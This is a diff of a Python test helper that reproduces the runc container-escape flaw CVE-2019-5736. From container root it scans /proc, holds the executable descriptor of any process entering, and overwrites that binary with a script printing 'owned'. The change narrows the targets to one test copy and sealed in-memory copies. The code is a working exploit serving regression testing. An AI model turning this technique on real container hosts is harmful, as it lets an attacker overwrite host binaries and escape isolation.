@@ -1,45 +1,72 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: LGPL-2.1-or-later
-# As root of a container: overwrite the binary of whoever enters (CVE-2019-5736).
-# Usage: overwrite-exe.py NAME. Prints "up", then "seen PATH" for each binary got
-# hold of and "overwritten PATH" when it could be written to. NAME is the
-# beginning of the file name to go for.
-import os, sys
+"""As root of a container: overwrite the binary of whoever enters (CVE-2019-5736).
 
-name = sys.argv[1]
+usage: overwrite-exe.py FILE DEVICE:INODE
+FILE is the copy that may be lost, below a directory of the test. Prints "up", then
+"seen PATH" for each binary of its name that was got hold of, the sealed copies in memory
+included, and "overwritten PATH" when it could be written to.
+
+Between a look at /proc/PID/exe and its opening the process may execute another program,
+one of the machine. So only the descriptor that is held is judged: what its own link says,
+and for FILE its device and inode. Run it in a cage (common.bash) all the same.
+"""
+
+import os
+import sys
+
+wanted = sys.argv[1]
+wanted_id = tuple(map(int, sys.argv[2].split(':')))
+in_memory = '/memfd:' + os.path.basename(wanted)
 held = {}
 
+
+def may_be_struck(fd):
+    """The copy itself, or a file in memory: its path, or None for what belongs to others."""
+    path, st = os.readlink(f'/proc/self/fd/{fd}'), os.fstat(fd)
+    if path == wanted and (st.st_dev, st.st_ino) == wanted_id:
+        return path
+    if path.startswith(in_memory) and st.st_nlink == 0:
+        return path
+    return None
+
+
+def hold(pid):
+    fd = os.open(f'/proc/{pid}/exe', os.O_RDONLY)
+    path = may_be_struck(fd)
+    if path is None or path in held:
+        os.close(fd)
+        return
+    held[path] = fd
+    print('seen', path, flush=True)
+
+
 def look():
-    for pid in os.listdir("/proc"):
-        if not pid.isdigit():
-            continue
+    for pid in filter(str.isdigit, os.listdir('/proc')):
         try:
-            path = os.readlink(f"/proc/{pid}/exe")
-            base = path.split("/")[-1]
-            if not base.startswith(name) and not base.startswith(f"memfd:{name}"):
-                continue
-            if path in held:
-                continue
-            held[path] = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
-            print("seen", path, flush=True)
+            hold(pid)
         except OSError:
             pass
 
-def strike():
-    for path, fd in list(held.items()):
-        try:
-            out = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
-            try:
-                os.write(out, b"#!/bin/sh\necho owned\n")
-                os.ftruncate(out, 21)
-            finally:
-                os.close(out)
-            print("overwritten", path, flush=True)
-            del held[path]
-        except OSError:
-            pass
 
-print("up", flush=True)
+def strike(path):
+    fd = os.open(f'/proc/self/fd/{held[path]}', os.O_WRONLY)
+    try:
+        if may_be_struck(fd) != path:
+            sys.exit(f'opened {path}, got another file')
+        os.write(fd, b'#!/bin/sh\necho owned\n')
+        os.ftruncate(fd, 21)
+    finally:
+        os.close(fd)
+    print('overwritten', path, flush=True)
+    os.close(held.pop(path))
+
+
+print('up', flush=True)
 while True:
     look()
-    strike()
+    for name in list(held):
+        try:
+            strike(name)
+        except OSError:
+            pass
